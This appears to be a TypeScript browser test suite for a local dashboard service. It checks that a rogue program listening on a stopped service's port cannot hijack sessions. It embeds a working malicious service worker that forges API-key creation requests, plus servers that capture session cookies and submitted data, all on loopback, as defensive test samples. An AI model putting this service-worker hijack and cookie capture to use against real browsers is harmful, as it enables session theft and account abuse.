import { once } from 'node:events';
import { createServer } from 'node:http';
import { connect } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect } from 'vitest';
import { openWatched } from '../../../support/dashboard/checks.js';
import { logIn, partsOf } from '../../../support/dashboard/parts.js';
import { eventually } from '../../../support/eventually.js';
import { LOOPBACK, noIpv6 } from '../../../support/network/ipv6.js';
import { describeUnless } from '../../../support/run/needs.js';
import { promise } from '../../../support/run/promise.js';
import { noBrowser, openBrowser } from '../../../support/screen/browser.js';
import { openTestService, type TestService } from '../../../support/service/service.js';

/** Asks for a key with each request of a page, and reports the status to its own server. */
const WORKER = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (event.request.url.includes('/reported')) return;
    const body = JSON.stringify({ name: 'stolen-' + Math.random() });
    const headers = { 'content-type': 'application/json' };
    event.waitUntil(fetch('/api/keys', { method: 'POST', headers, body })
      .then(({ status }) => status, () => 0)
      .then((status) => fetch('REPORT' + status, { mode: 'no-cors' })));
  });`;
const PAGE = `<script>
  navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
    .then(() => { document.title = 'taken'; });
</script>`;

describeUnless(noBrowser)('another user who listens on the port of a stopped service', () => {
  let service: TestService;
  let browser: Browser;

  beforeAll(async () => {
    [service, browser] = await Promise.all([openTestService(), openBrowser()]);
  });
  afterAll(async () => {
    await browser?.close();
    await service?.close();
  });

  const link = async () => String((await service.http('POST', '/logins', {})).json.url);

  promise(25, 'leaves nothing in a browser that acts with its later sessions', async (report) => {
    const { context, page } = await openWatched(browser);
    const port = Number(new URL(service.baseUrl).port);
    await logIn(page, await link());
    const old = page.url();
    await service.kill('SIGTERM');
    await page.getByText('The service is not reachable').waitFor();

    const statuses: number[] = [];
    const reports = createServer(({ url = '' }, response) => {
      statuses.push(Number(url.split('/').at(-1)));
      response.end();
    }).listen(0, '127.0.0.1');
    await once(reports, 'listening');
    const { port: reported } = reports.address() as { port: number };
    const worker = WORKER.replace('REPORT', `http://127.0.0.1:${reported}/reported/`);
    const cookies: (string | undefined)[] = [];
    const thief = createServer(({ url, headers }, response) => {
      cookies.push(headers.cookie);
      const isWorker = url === '/worker.js';
      response.writeHead(200, { 'content-type': isWorker ? 'text/javascript' : 'text/html' });
      response.end(isWorker ? worker : PAGE);
    }).listen(port, '127.0.0.1');
    await once(thief, 'listening');
    // The user reloads the page that says that the service is away.
    await page.reload();
    await eventually(async () => (await page.title()) === 'taken');
    thief.closeAllConnections();
    await new Promise((done) => thief.close(done));
    await service.start();

    const keys = async () => (await service.http('GET', '/keys')).json.keys.length;
    const before = await keys();
    // The old address, whose worker acts, and the new one.
    await page.goto(old);
    await eventually(async () => statuses.length > 0);
    await page.getByText('This address of the web page ended').waitFor();
    expect(await page.locator('input').count()).toBe(0);
    const next = await context.newPage();
    await logIn(next, await link());
    await next.reload();
    await partsOf(next).heading('Computers').waitFor();
    expect(await next.evaluate('navigator.serviceWorker.controller')).toBe(null);
    // Also while a session is open, and with the cookie that the old page has sent.
    await page.reload();
    await eventually(async () => statuses.length > 1);
    const cookie = cookies.find((one) => one?.includes('vc_session_')) ?? '';
    expect(cookie).not.toBe('');
    for (const host of [new URL(old).host, new URL(next.url()).host, `127.0.0.1:${port}`]) {
      expect(await statusOf(port, host, cookie)).toBe(401);
    }
    expect(new Set(statuses)).toEqual(new Set([401]));
    expect(await keys()).toBe(before);
    report(`${statuses.length} requests of the other user's worker, all 401`);
    reports.closeAllConnections();
    reports.close();
    await context.close();
  });

  promise(25, 'gets nothing that is typed into a page that is still open', async (report) => {
    const { context, page } = await openWatched(browser);
    const port = Number(new URL(service.baseUrl).port);
    await service.vc.projects.create('typed');
    await logIn(page, await link());
    await page.getByRole('link', { name: 'Projects' }).first().click();
    await page.getByRole('link', { name: 'typed', exact: true }).click();
    await service.kill('SIGTERM');
    await page.getByText('The service is not reachable').waitFor();

    const received: string[] = [];
    const thief = createServer(async (request, response) => {
      let body = '';
      for await (const chunk of request) body += chunk;
      received.push(`${request.method} ${request.url?.split('?')[0]} ${body}`);
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end('{"status":"ok","proof":"AAAA","projects":[],"computers":[]}');
    }).listen(port, '127.0.0.1');
    await once(thief, 'listening');
    await page.getByText('Another program answers at the address of the service').waitFor();
    expect(await page.locator('input').count()).toBe(0);
    expect(new Set(received)).toEqual(new Set(['GET /api/sessions/current ']));
    thief.closeAllConnections();
    await new Promise((done) => thief.close(done));
    await service.start();
    report('it is asked for a proof, and nothing else is sent');
    await context.close();
  });

  promise(25, 'cannot listen beside the running service', async () => {
    const { hostname, port } = new URL(service.baseUrl);
    const all = noIpv6 === undefined ? ['::1', '::'] : [];
    for (const host of [hostname, '0.0.0.0', '127.0.0.1', ...all]) {
      const other = createServer().listen({ host, port: Number(port) });
      const [error] = await Promise.race([once(other, 'error'), once(other, 'listening')]);
      other.close();
      expect([host, (error as NodeJS.ErrnoException | undefined)?.code]).toEqual([
        host,
        'EADDRINUSE',
      ]);
    }
    // Both addresses of loopback are the service.
    for (const host of LOOPBACK) {
      const socket = connect(Number(port), host);
      socket.end('GET /api/health HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n');
      const [answer] = await once(socket, 'data');
      expect(String(answer)).toMatch(/^HTTP\/1\.1 200 /);
    }
  });
});

/** The status of a request for the session with the cookie. */
async function statusOf(port: number, host: string, cookie: string): Promise<number> {
  const socket = connect(port, '127.0.0.1');
  const lines = ['GET /api/me HTTP/1.1', `host: ${host}`, `cookie: ${cookie}`, 'x-vc-page: 1'];
  socket.write([...lines, 'connection: close', '', ''].join('\r\n'));
  const [answer] = await once(socket, 'data');
  socket.destroy();
  return Number(String(answer).split(' ')[1]);
}
